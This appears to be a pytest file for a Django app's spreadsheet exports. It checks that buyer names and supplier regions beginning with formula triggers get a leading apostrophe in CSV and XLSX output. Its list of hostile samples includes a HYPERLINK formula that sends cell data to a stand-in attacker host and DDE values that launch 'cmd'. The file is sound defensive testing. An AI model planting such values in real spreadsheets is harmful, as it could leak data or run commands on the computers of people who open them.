"""Spreadsheet formula injection: names and regions typed by organisations must stay text in the exports."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from linkages import services as linkage_services
from linkages.models import Linkage, Stage
from reporting import exports
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.fixture
def hostile_world(db):
    """A buyer named like a formula, linked to a supplier whose region is one, with a first transaction."""
    buyer = factories.BuyerFactory(country="CR", legal_name='=HYPERLINK("http://evil.example","x")')
    supplier = factories.SupplierProfileFactory(
        organisation=factories.SmeFactory(country="CR", region="@SUM(1+1)*cmd|' /C calc'!A0")
    )
    linkage, _ = linkage_services.create_linkage(
        actor=None,
        buyer=buyer,
        supplier=supplier,
        source=Linkage.Source.MATCH,
        stage=Stage.CONTACTED,
        at=timezone.now() - dt.timedelta(days=3),
        system=True,
    )
    linkage_services.record_transaction(
        actor=None,
        linkage=linkage,
        date=timezone.localdate(),
        value=Decimal("1000"),
        currency="USD",
        system=True,
    )
    from buyers import services as buyer_services

    buyer_services.declare_purchases(
        actor=factories.AgencyStaffFactory(), buyer=buyer, year=timezone.localdate().year, total_purchases=50_000
    )
    return buyer, supplier


@pytest.mark.parametrize("text", HOSTILE)
def test_the_one_helper_neutralises_every_trigger(text):
    assert exports.spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Aero MX", "CR", "Región Huetar Norte", "a=b", "", 12, -3.5, None])
def test_harmless_values_are_left_alone(value):
    assert exports.spreadsheet_cell(value) == value


def test_negative_amounts_stay_numbers():
    assert exports.spreadsheet_cell(Decimal("-12.50")) == -12.5


def test_values_that_are_not_yet_text_are_checked_as_text():
    assert exports.spreadsheet_cell(gettext_lazy("=1+1")) == "'=1+1"


def test_no_hostile_text_becomes_a_formula_in_xlsx():
    rows = [{"name": text, "value": 1} for text in HOSTILE]
    sheet = load_workbook(io.BytesIO(exports.as_xlsx("t", ["name", "value"], rows))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
    # XML turns a carriage return into a line feed; what matters is the leading apostrophe.
    assert [cell.value for cell in cells] == ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [1] * len(HOSTILE)


def test_every_hostile_text_starts_with_a_quote_in_csv():
    rows = [{"name": text} for text in HOSTILE]
    parsed = list(csv.reader(io.StringIO(exports.as_csv(["name"], rows).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in parsed[1:]] == ["'" + text for text in HOSTILE]


@pytest.mark.django_db
def test_dashboard_exports_of_hostile_names(hostile_world, client, agency_user):
    buyer, supplier = hostile_world
    client.force_login(agency_user)

    workbook = client.get("/dashboard/export/local_share_by_buyer.xlsx")
    assert workbook.status_code == 200
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    name_cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in name_cells] == ["'" + buyer.legal_name]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    regions = client.get("/dashboard/export/suppliers_by_region.xlsx")
    sheet = load_workbook(io.BytesIO(regions.content)).active
    region_cells = {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
    assert region_cells == {"'" + supplier.organisation.region: "s"}

    text = client.get("/dashboard/export/suppliers_by_region.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["region"] for row in rows] == ["'" + supplier.organisation.region]
    buyers = list(
        csv.DictReader(
            io.StringIO(client.get("/dashboard/export/local_share_by_buyer.csv").content.decode("utf-8-sig"))
        )
    )
    assert [row["buyer"] for row in buyers] == ["'" + buyer.legal_name]
    assert buyers[0]["buyer"].startswith("'")
